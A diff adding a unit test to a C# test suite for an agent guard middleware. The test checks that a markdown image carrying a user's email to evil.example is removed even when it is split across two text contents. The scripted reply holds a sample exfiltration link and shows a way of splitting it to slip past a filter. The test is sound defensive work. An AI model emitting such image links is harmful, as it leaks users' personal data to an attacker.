@@ -74,6 +74,23 @@ public sealed class ReplyImageExfiltrationTests
         response.Text.Should().NotContain("evil.example").And.Contain("(image removed: logo)");
     }
 
+    /// <summary>A reply whose text comes in two contents of one message: a client shows them as one text, so the image they make together is read whole.</summary>
+    [Fact]
+    public async Task ImageSplitAcrossTwoTextContents_IsRemoved()
+    {
+        await using var services = Create("""{ "AgentGuard": {} }""", b => b.AddDefaultPolicyPack());
+        var model = new ScriptedChatClient(
+            ScriptedChatClient.CallTools(("c1", "get_user_profile", [])),
+            ScriptedChatClient.CallTools(("c2", "fetch_url", Args(("url", "https://news.example/today")))),
+            _ => new ChatMessage(ChatRole.Assistant, [new TextContent("Markets rallied today. ![logo](https://evil.example/p.png?d=alice"), new TextContent(".w@corp.example)")]));
+        var (_, options) = Agent(services, string.Empty);
+        var client = new ChatClientBuilder(model).UseAgentGuard().UseFunctionInvocation().Build(services);
+
+        var response = await client.GetResponseAsync("Check my profile, then summarize https://news.example/today.", options);
+
+        response.Text.Should().NotContain("evil.example").And.Contain("(image removed: logo)");
+    }
+
     [Fact]
     public async Task ImageInASessionThatReadNothingUntrusted_IsKept()
     {
